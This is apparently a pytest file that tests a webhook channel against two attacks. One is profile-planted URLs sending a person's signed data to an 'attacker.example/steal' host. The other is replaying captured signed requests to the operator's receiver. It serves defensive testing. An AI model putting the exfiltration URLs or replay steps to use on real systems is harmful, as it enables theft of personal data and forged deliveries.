"""A webhook URL taken from a trait, as the security trial used it: an attacker who got a ``webhook_url``
onto a person's profile (a browser claiming her email) wanted her journey webhooks, signed; and a signed
request they received could be re-posted to the operator's own receiver, which trusted the same secret.

Two real receivers: the operator's (`LocalWebhookReceiver`, verifying as a receiver would) and the
attacker's. For the case with no host listed (the production default) both must look public, so a
stand-in DNS answers every name with 127.0.0.2 and `public_loopback` counts that one address as public
(what a real attacker's server would be); every other address is judged as in production.
"""

from __future__ import annotations

import socket

import aiohttp
import pytest
from aiohttp.abc import AbstractResolver, ResolveResult

from cdp_kit.settings import load_settings
from cdp_orchestration.channels import destinations
from cdp_orchestration.channels.base import Action, Content
from cdp_orchestration.channels.settings import WebhookSettings
from cdp_orchestration.channels.webhook import WebhookChannel
from cdp_testing.channels.webhook import LocalWebhookReceiver

SECRET = "a-webhook-secret-of-some-length"
PUBLIC = "127.0.0.2"  # stands in for a public address (`public_loopback`)


@pytest.fixture
def public_loopback(monkeypatch):
    judged = destinations.refusal
    monkeypatch.setattr(destinations, "refusal", lambda address: None if str(address) == PUBLIC else judged(address))


class Dns(AbstractResolver):
    """Every name answers PUBLIC."""

    async def resolve(self, host: str, port: int = 0, family: int = socket.AF_INET) -> list[ResolveResult]:
        return [{"hostname": host, "host": PUBLIC, "port": port, "family": socket.AF_INET, "proto": 0, "flags": 0}]

    async def close(self) -> None:
        return None


def channel(**environ: str) -> WebhookChannel:
    settings = load_settings(WebhookSettings, {"CDP_WEBHOOK_SECRET": SECRET, "CDP_WEBHOOK_TIMEOUT": "2", **environ})
    return WebhookChannel(settings, resolver=Dns())


def hook(url: str, action_id: str = "act-1") -> Action:
    """An action for ada; `url` is her profile's webhook_url ("" when she has none)."""
    content = Content(subject="Your order", body="note=VICTIM-SECRET-NOTE-7731 email=ada@example.com")
    return Action(action_id, "person-ada", "webhook", content, url)


async def test_a_url_from_a_trait_is_refused_when_no_host_is_listed_and_nothing_reaches_it(public_loopback):
    async with (
        LocalWebhookReceiver(secret=SECRET, host=PUBLIC, hosts=("hooks.shop.example",)) as operator,
        LocalWebhookReceiver(host=PUBLIC) as attacker,
    ):
        operators_url = f"http://hooks.shop.example:{operator.port}/hooks/cdp"
        async with channel(CDP_WEBHOOK_URL=operators_url, CDP_WEBHOOK_ALLOWED_HOSTS="") as webhook:
            stolen = await webhook.send(hook(f"http://attacker.example:{attacker.port}/steal"))
            # The same public host named by the operator, not by a trait, is called as before.
            configured = await webhook.send(hook("", "act-2"))
        assert (stolen.status, stolen.reason, stolen.retryable) == ("rejected", "host_not_allowed", False)
        assert attacker.attempts == 0
        assert configured.status == "accepted"
        assert [d.headers["Idempotency-Key"] for d in operator.deliveries] == ["act-2"]


async def test_a_url_from_a_trait_reaches_only_hosts_the_operator_listed(public_loopback):
    async with (
        LocalWebhookReceiver(secret=SECRET, host=PUBLIC, hosts=("hooks.partner.example",)) as partner,
        LocalWebhookReceiver(host=PUBLIC) as attacker,
    ):
        async with channel(CDP_WEBHOOK_ALLOWED_HOSTS="hooks.partner.example") as webhook:
            listed = await webhook.send(hook(f"http://hooks.partner.example:{partner.port}/in"))
            unlisted = await webhook.send(hook(f"http://attacker.example:{attacker.port}/steal", "act-2"))
        assert listed.status == "accepted" and len(partner.deliveries) == 1
        assert (unlisted.status, unlisted.reason) == ("rejected", "host_not_allowed")
        assert attacker.attempts == 0


async def test_a_signed_request_forwarded_to_the_operators_receiver_is_refused_there():
    # The attacker's host is listed here (an operator listed a partner who turned, or a receiver that is
    # breached): it receives a request signed with the platform's secret and re-posts it, within the
    # receiver's tolerance, to the operator's receiver, which has never seen its Idempotency-Key.
    async with LocalWebhookReceiver(secret=SECRET) as operator, LocalWebhookReceiver() as attacker:
        async with channel(CDP_WEBHOOK_ALLOWED_HOSTS="127.0.0.1") as webhook:
            received = await webhook.send(hook(f"{attacker.base_url}/hooks/cdp"))
            direct = await webhook.send(hook(operator.url(), "act-2"))
        assert received.status == "accepted" and direct.status == "accepted"
        (stolen,) = attacker.deliveries
        assert stolen.headers["X-CDP-Signature"].startswith("v2=")
        kept = ("Content-Type", "X-CDP-Timestamp", "X-CDP-Signature", "Idempotency-Key", "User-Agent")
        headers = {name: stolen.headers[name] for name in kept}
        answers = []
        async with aiohttp.ClientSession() as http:
            # On the same path as it came, and again with the Host header it was sent with: the receiver
            # checks against its own origin, never one the request names.
            for extra in ({}, {"Host": f"127.0.0.1:{attacker.port}"}):
                async with http.post(operator.url(), data=stolen.body, headers={**headers, **extra}) as answer:
                    answers.append(answer.status)
            # The path is signed too: the operator's own request, re-posted to another path of its receiver.
            (own,) = operator.deliveries
            own_headers = {name: own.headers[name] for name in kept}
            async with http.post(operator.url("hooks/admin"), data=own.body, headers=own_headers) as answer:
                answers.append(answer.status)
        assert answers == [401, 401, 401]
        assert operator.refused_signatures == 3
        assert [d.headers["Idempotency-Key"] for d in operator.deliveries] == ["act-2"]
